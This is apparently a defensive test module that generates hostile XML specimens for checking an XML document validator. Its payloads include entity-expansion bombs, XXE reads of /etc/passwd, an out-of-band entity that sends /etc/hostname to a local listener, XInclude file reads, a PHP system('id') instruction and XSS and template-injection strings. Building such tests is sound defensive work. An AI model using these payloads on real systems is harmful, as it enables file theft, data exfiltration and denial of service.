"""Attacks by XML: expansion, fetching, size, and text that wants to become a program."""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import replace

from building import a_claim, a_result, an_archive
from hostile.making import (
    ACCEPTED,
    REFUSED,
    RETURNED,
    Specimen,
    pairs,
    specimen,
    specimens_of,
    with_claim,
    with_result,
)
from hostile.xml_kinds import BROKEN, CLAIM, DECLARATION, RESULT, both_sides

LISTENER = "http://127.0.0.1:{port}/"
PORT = 0
"""Set by the test that listens; anything that is fetched would arrive there."""


def address() -> str:
    return LISTENER.format(port=PORT or 9)


def with_doctype(data: bytes, doctype: str, text: str = "") -> bytes:
    """The document with a DOCTYPE, its entity used in the address."""
    made = data.replace(DECLARATION, DECLARATION + doctype.encode(), 1)
    return made.replace("東京都港区新橋９－９９－９".encode(), text.encode(), 1) if text else made


def doctyped(about: str, doctype: str, text: str = "") -> Iterator[Specimen]:
    yield from both_sides(
        about,
        lambda data: with_doctype(data, doctype, text),
        RETURNED,
        BROKEN,
        BROKEN,
        found="DOCTYPE",
    )


@specimens_of("ATTACK-01")
def exponential(rng: random.Random) -> Iterator[Specimen]:
    for width, levels in ((10, 10), (2, 40), (rng.randint(3, 9), 30)):
        rows = ['<!ENTITY e0 "lol">']
        rows += [f'<!ENTITY e{n} "{f"&e{n - 1};" * width}">' for n in range(1, levels)]
        doctype = f"<!DOCTYPE x [{''.join(rows)}]>"
        yield from doctyped(f"{width} to the {levels}", doctype, f"&e{levels - 1};")


@specimens_of("ATTACK-02")
def quadratic(rng: random.Random) -> Iterator[Specimen]:
    for size in (1_000, 50_000, rng.randint(100_000, 200_000)):
        doctype = f'<!DOCTYPE x [<!ENTITY a "{"a" * size}">]>'
        yield from doctyped(f"{size} characters", doctype, "&a;" * 1_000)


@specimens_of("ATTACK-03")
def recursive(_rng: random.Random) -> Iterator[Specimen]:
    yield from doctyped("itself", '<!DOCTYPE x [<!ENTITY a "&a;">]>', "&a;")
    circle = '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
    yield from doctyped("in a circle", circle, "&a;")
    parameter = "<!DOCTYPE x [<!ENTITY % a \"<!ENTITY b '&#37;a;'>\"> %a; %a;]>"
    yield from doctyped("by parameter", parameter, "&b;")
    yield specimen(
        "used and never declared",
        with_result(with_doctype(RESULT, "", "&a;")),
        RETURNED,
        BROKEN,
    )


@specimens_of("ATTACK-04")
def external(_rng: random.Random) -> Iterator[Specimen]:
    for place in ("file:///etc/passwd", address(), "../../etc/passwd", "expect://id"):
        doctype = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{place}">]>'
        yield from doctyped(place, doctype, "&a;")
    public = f'<!DOCTYPE x [<!ENTITY a PUBLIC "-//A//B" "{address()}">]>'
    yield from doctyped("public", public, "&a;")


@specimens_of("ATTACK-05")
def external_parameter(_rng: random.Random) -> Iterator[Specimen]:
    for place in ("file:///etc/passwd", address(), "jar:file:///x!/y"):
        doctype = f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{place}"> %a;]>'
        yield from doctyped(place, doctype)
    stolen = (
        '<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/hostname">'
        f"<!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{address()}?%f;'>\"> %e; %s;]>"
    )
    yield from doctyped("out of band", stolen)


@specimens_of("ATTACK-06")
def doctypes(_rng: random.Random) -> Iterator[Specimen]:
    yield from doctyped("empty", "<!DOCTYPE ClinicalDocument>")
    yield from doctyped("external", f'<!DOCTYPE ClinicalDocument SYSTEM "{address()}x.dtd">')
    yield from doctyped("notation", '<!DOCTYPE x [<!NOTATION n SYSTEM "cmd.exe">]>')
    yield from doctyped("default attribute", '<!DOCTYPE x [<!ATTLIST a b CDATA "c">]>')
    yield from doctyped("behind a comment", "<!-- harmless -->\n\n<!DOCTYPE x>")
    yield specimen(
        "in small letters", with_result(with_doctype(RESULT, "<!doctype x>")), RETURNED, BROKEN
    )


@specimens_of("ATTACK-07")
def xinclude(_rng: random.Random) -> Iterator[Specimen]:
    for place, parse in (("file:///etc/passwd", "text"), (address(), "xml"), ("h.xml", "xml")):
        include = (
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{place}"'
            f' parse="{parse}"/>'
        )
        yield from both_sides(
            place,
            lambda data, include=include: with_doctype(data, "", include),
            RETURNED,
            "XML-012 HC-012",
            "XML-010 CC-008",
        )


@specimens_of("ATTACK-08")
def schema_location(_rng: random.Random) -> Iterator[Specimen]:
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    for about, hint in (
        ("without namespace", f'xsi:noNamespaceSchemaLocation="{address()}evil.xsd"'),
        ("of another namespace", f'xsi:schemaLocation="urn:x {address()}evil.xsd"'),
    ):
        yield from both_sides(
            about, lambda data, hint=hint: _rooted(data, f"{xsi} {hint}"), ACCEPTED, "", ""
        )
    hint = f'xsi:schemaLocation="urn:hl7-org:v3 {address()}evil.xsd"'
    own = _rooted(RESULT, f"{xsi} {hint}")
    yield specimen("of the document's own", with_result(own), RETURNED, "XML-006")
    hint = f'xsi:schemaLocation="urn:hl7-org:v3 {address()}hc08_V08.xsd"'
    yield specimen("under the right name", with_result(_rooted(RESULT, f"{xsi} {hint}")), ACCEPTED)


def _rooted(data: bytes, attributes: str) -> bytes:
    """The document with more attributes at its root; what it already binds stays."""
    head, mark, rest = data.partition(b"?>")
    place = rest.index(b"<") + 1
    while rest[place : place + 1] not in (b" ", b">"):
        place += 1
    end = rest.index(b">", place)
    if b"xmlns:xsi=" in rest[:end]:
        attributes = attributes.partition(" ")[2]
    if b"xsi:schemaLocation=" in rest[:end] and "xsi:schemaLocation=" in attributes:
        before, _, after = rest.partition(b'xsi:schemaLocation="')
        rest = before + after.partition(b'"')[2]
    return head + mark + rest[:place] + b" " + attributes.encode() + rest[place:]


@specimens_of("ATTACK-09")
def instructions(_rng: random.Random) -> Iterator[Specimen]:
    for about, instruction in (
        ("stylesheet", f'<?xml-stylesheet type="text/xsl" href="{address()}x.xsl"?>'),
        ("own stylesheet", '<?xml-stylesheet type="text/css" href="#x"?>'),
        ("PHP", "<?php system('id'); ?>"),
        ("Word", '<?mso-application progid="Word.Document"?>'),
    ):
        yield from both_sides(
            about,
            lambda data, instruction=instruction: with_doctype(data, instruction),
            ACCEPTED,
            "",
            "",
        )


@specimens_of("ATTACK-10")
def depth(rng: random.Random) -> Iterator[Specimen]:
    for deep in (65, 257, 10_000, rng.randint(20_000, 150_000)):
        data = b"<a>" * deep + b"</a>" * deep
        yield specimen(f"{deep}, result", with_result(data), RETURNED, BROKEN, found="入れ子")
    data = CLAIM.replace("東京都".encode(), b"<a>" * 10_000 + b"</a>" * 10_000, 1)
    yield specimen("10,000, claim", with_claim(data), RETURNED, BROKEN)
    yield specimen("never closed", with_result(b"<a>" * 3_000_000), RETURNED, BROKEN)


@specimens_of("ATTACK-11")
def attributes(rng: random.Random) -> Iterator[Specimen]:
    for count in (65, 100_000, rng.randint(200_000, 400_000)):
        many = "".join(f' a{number}="{number}"' for number in range(count)).encode()
        yield specimen(
            f"{count}", with_result(b"<a" + many + b"/>"), RETURNED, BROKEN, found="属性"
        )
    same = b"<a" + b' x="1"' * 100_000 + b"/>"
    yield specimen("the same 100,000 times", with_claim(same), RETURNED, BROKEN)
    long = CLAIM.replace(b'extension="1319900013"', b'extension="' + b"1" * 9_000_000 + b'"', 1)
    yield specimen("one of 9 MB", with_claim(long), RETURNED, "XML-010")


@specimens_of("ATTACK-12")
def much_text(rng: random.Random) -> Iterator[Specimen]:
    def text(size: int, data: bytes, letter: bytes = b"a") -> bytes:
        return data.replace(
            "東京都港区新橋９－９９－９".encode(), letter * (size // len(letter)), 1
        )

    yield specimen("100 MB", lambda: with_result(text(100_000_000, RESULT)), REFUSED, "ARC-022")
    yield specimen(
        "100 MB of kanji",
        lambda: with_claim(text(100_000_000, CLAIM, "字".encode())),
        REFUSED,
        "ARC-022",
    )
    yield specimen(
        "9 MB, result", lambda: with_result(text(9_000_000, RESULT)), RETURNED, "HC-012 XF-008"
    )
    yield specimen(
        "9 MB, claim", lambda: with_claim(text(9_000_000, CLAIM)), RETURNED, "CC-008 XF-008"
    )
    noise = bytes(rng.choice(b"abcdefgh <>") for _ in range(200_000)) * 50
    yield specimen("10 MB of broken marks", lambda: with_result(noise), RETURNED, BROKEN)
    empty = b"<a>" + b"<b/>" * 2_400_000 + b"</a>"
    yield specimen("2,400,000 elements", lambda: with_result(empty), RETURNED, BROKEN)
    start, end = RESULT.index(b"<entry"), RESULT.index(b"</entry>") + len(b"</entry>")
    wrong = RESULT[start:end].replace(b'unit="cm"', b'unit="mm"') * 2_000
    faults = RESULT[:start] + wrong + RESULT[start:]
    yield specimen("2,000 faults in one result", with_result(faults), RETURNED, "HC-029 HC-031")
    comments = RESULT + b"<!--x-->" * 1_200_000
    yield specimen("1,200,000 comments", lambda: with_result(comments), ACCEPTED)


@specimens_of("ATTACK-13")
def scripts(_rng: random.Random) -> Iterator[Specimen]:
    result = a_result()
    section = result.sections[0]
    for about, title in (
        ("script", "<script>alert(1)</script>"),
        ("picture", "<img src=x onerror=alert(1)>"),
        ("link", "javascript:alert(document.cookie)"),
        ("template", "{{7*7}}${7*7}<%= 7*7 %>"),
    ):
        changed = replace(result, sections=(replace(section, title=title),))
        yield specimen(f"{about}, escaped", an_archive(pairs((changed, a_claim()))), ACCEPTED)
    for about, tag in (
        ("script", b"<script>alert(1)</script>"),
        ("iframe", b'<iframe src="http://127.0.0.1/"/>'),
        ("object", b'<object data="x"/>'),
    ):
        marked = RESULT.replace(b"<title>", b"<title>" + tag, 1)
        yield specimen(f"{about}, as mark-up", with_result(marked), RETURNED, "XML-012")
    data = RESULT.replace(b"<title>", b"<title><![CDATA[<script>alert(1)</script>]]>", 1)
    yield specimen("in CDATA", with_result(data), ACCEPTED)


@specimens_of("ATTACK-14")
def invented_names(rng: random.Random) -> Iterator[Specimen]:
    names = b"".join(b"<n%d/>" % number for number in range(49_000))
    yield specimen("49,000 elements", with_result(b"<a>" + names + b"</a>"), RETURNED, "XML-012")
    spaces = "".join(f' xmlns:p{n}="urn:{n}"' for n in range(60_000)).encode()
    yield specimen("60,000 prefixes", with_result(b"<a" + spaces + b"/>"), RETURNED, "XML-012")
    nested = b"".join(b'<p%d:a xmlns:p%d="u%d">' % (n, n, n) for n in range(60))
    closing = b"".join(b"</p%d:a>" % n for n in reversed(range(60)))
    yield specimen("prefix in prefix", with_result(nested + closing), RETURNED, "XML-012")
    alike = b"".join(b"<%s/>" % rng.randbytes(8).hex().translate(
        str.maketrans("0123456789", "ghijklmnop")).encode() for _ in range(49_000))  # fmt: skip
    yield specimen("49,000 at random", with_claim(b"<a>" + alike + b"</a>"), RETURNED, "XML-010")
    wide = b"<a>" + b"".join(
        b"<b%s/>" % b"".join(b' a%d="1"' % (n * 60 + m) for m in range(60)) for n in range(8_000)
    ) + b"</a>"  # fmt: skip
    yield specimen("480,000 attribute names", with_result(wide), RETURNED, BROKEN)
